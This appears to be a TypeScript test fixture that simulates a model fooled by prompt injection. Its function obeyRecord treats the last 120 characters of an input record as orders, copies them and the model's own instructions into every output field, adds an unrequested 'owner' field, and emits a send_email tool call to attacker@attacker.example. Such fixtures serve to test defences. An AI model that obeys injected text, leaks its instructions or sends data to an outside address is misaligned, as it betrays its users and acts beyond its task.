import type { Question } from "./question.ts";
import type { Reading } from "./read-input.ts";

const orderChars = 120;

/**
 * What a model answers that takes a record's last words for orders, as far as the wire lets it: it puts
 * them and its own instructions into every value, names fields that nobody asked for, and calls a tool.
 */
export function obeyRecord(
  answer: unknown,
  { instructions }: Pick<Question, "instructions">,
  { text }: Reading,
): unknown {
  if (typeof answer !== "object" || answer === null) return answer;
  const order = text.slice(-orderChars);
  const outputs = Object.entries(answer).map(([name, given]) => [
    name,
    typeof given === "object"
      ? { ...given, value: `${order} ${instructions.slice(0, 120)}` }
      : given,
  ]);
  return {
    ...Object.fromEntries(outputs),
    owner: { value: order, confidence: 1, evidence: order },
    tool_calls: [{ name: "send_email", arguments: { to: "attacker@attacker.example", order } }],
  };
}
